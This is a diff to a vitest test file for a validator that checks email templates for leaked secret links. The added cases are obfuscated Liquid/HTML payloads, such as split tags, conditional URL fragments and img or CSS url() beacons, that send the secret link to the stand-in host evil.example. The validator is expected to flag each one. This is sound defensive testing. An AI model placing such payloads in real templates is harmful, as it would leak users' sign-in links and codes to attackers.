@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { emailTemplates } from '../../database/seed/content/essential/email-templates.ts';
 import { languages } from '../language.ts';
-import { findSecretError } from './mail-template-secrets.ts';
+import { findRenderedError, findSecretError, splitTags } from './mail-template-secrets.ts';
 
 const siteUrl = 'https://alpaca.example';
 const variables = ['first_name', 'message', 'link', 'code', 'booking_link'];
@@ -42,6 +42,12 @@ describe('a template with a link', () => {
     '{{ link | prepend: "https://evil.example/?" }}',
     '{{ "https://evil.example/?" | append: link }}',
     '<!-- {{ link }} -->',
+    '{% if code == "z" %} {% endif %}{{ link }}',
+    '{% if code %}https://evil.example/?{% else %} {% endif %}{{ link }}',
+    '{{ link }}{% if code %}.evil.example{% endif %} ',
+    '<{% if code == "z" %} {% endif %}img alt=">" src="https:/{% if code == "z" %} {% endif %}/evil.example/? {{ link }} ">',
+    '<{% if code == "z" %} {% endif %}img src="https:/{% if code == "z" %} {% endif %}/evil.example/? {{ link }} ">',
+    '<{{ "img" }} src="{{ link }}">',
   ])('may not hand it on: %s', (text) => {
     expect(codeOf(text)).toBe('secret_misplaced');
   });
@@ -56,10 +62,49 @@ describe('a template with a link', () => {
     ['<a href="https://evil.example">Sign in</a>', 'foreign_link'],
     ['<a href="https://alpaca.example@evil.example/">Sign in</a>', 'foreign_link'],
     ['Sign in at https://evil.example', 'foreign_link'],
+    [
+      `<img src="https://alpaca.example{% if code == 'z' %}/{% endif %}.evil.example/x.png">`,
+      'foreign_content',
+    ],
+    [
+      `<a href="https://alpaca.example{% if code == 'z' %}/{% endif %}.evil.example/">x</a>`,
+      'foreign_content',
+    ],
+    ['<p title="{% if code %}x{% endif %}">x</p>', 'foreign_content'],
+    ['<p {% if code %}class="x"{% endif %}>x</p>', 'foreign_content'],
+    ['<{% if code == "z" %} {% endif %}style>x</style>', 'foreign_content'],
+    ['<style>x</style>', 'foreign_content'],
+    [`<p style="{{ 'background:u' }}{{ 'rl(//evil.example)' }}">x</p>`, 'foreign_content'],
+    [`<a href="{{ 'https://evil.example/' }}">x</a>`, 'foreign_link'],
+    ["https:/{% if code == 'z' %} {% endif %}/evil.example", 'foreign_link'],
+    ["{{ 'https:/' }}/evil.example", 'foreign_link'],
   ])('loads and leads to nothing of others: %s', (text, code) => {
     expect(codeOf(text)).toBe(code);
   });
 });
+
+const link = 'https://alpaca.example/me/••••';
+
+it.each([
+  [`<p>Hi</p><a href="${link}">${link}</a> <img src="https://alpaca.example/x.png">`, undefined],
+  ['<a href="https://book.example/x">x</a> 5 < 6', undefined],
+  [`<img alt=">" src="https://evil.example/? ${link} ">`, 'foreign_content'],
+  [`<img alt="x" src="https://evil.example/? ${link} ">`, 'secret_misplaced'],
+  [`<img alt=${link}>`, 'foreign_content'],
+  ['<img src="https://alpaca.example.evil.example/x.png">', 'foreign_content'],
+  ['<p style="background:url(//evil.example)">x</p>', 'foreign_content'],
+  ['<a href="https://evil.example/">x</a>', 'foreign_link'],
+])('checks the rendered mail: %s', (html, code) => {
+  const targets = [link, 'https://book.example/x'];
+  expect(findRenderedError(html, { siteUrl, targets, masked: [link] })?.code).toBe(code);
+});
+
+it.each(['<img alt=">" src="x">', '<img alt=x>', '<!-- x -->', '<img src="x"', '<p/class="x">'])(
+  'does not split what programs read differently: %s',
+  (html) => {
+    expect(splitTags(`<p>x</p>${html}`)).toBeUndefined();
+  },
+);
 
 it('leaves templates without links and codes alone', () => {
   const text = '<img src="https://other.example/x.png">';
